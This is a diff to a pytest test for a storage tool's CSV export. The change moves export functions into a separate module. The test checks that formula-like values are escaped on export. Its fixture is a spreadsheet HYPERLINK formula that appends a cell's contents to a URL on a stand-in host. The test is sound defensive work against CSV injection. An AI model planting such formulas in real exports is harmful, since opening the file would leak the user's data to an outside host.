@@ -13,7 +13,9 @@ import clirun
 import pytest
 
 from ssdlab.cli.output import fmt
-from ssdlab.store import Store, csv_text
+from ssdlab import store_export
+from ssdlab.store import Store
+from ssdlab.store_export import csv_text
 
 FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
 
@@ -32,7 +34,7 @@ def test_an_exported_run_with_a_formula_for_a_drive_name_stays_text(tmp_path):
     rid = store.create_run("fill", {})
     rd = store.add_drive(rid, 0, FORMULA, {"kind": "sim", "model": "m", "capacity": 1})
     store.set_metrics(rd, {"avg_mbps": -1.5, "note": "=1+1"})
-    rows = list(csv.reader(io.StringIO(store.export_csv(rid))))
+    rows = list(csv.reader(io.StringIO(store_export.to_csv(store, rid))))
     assert {r[1] for r in rows[1:]} == {"'" + FORMULA}
     assert ["-1.5", "'=1+1"] == [r[7] for r in rows[1:]]
 
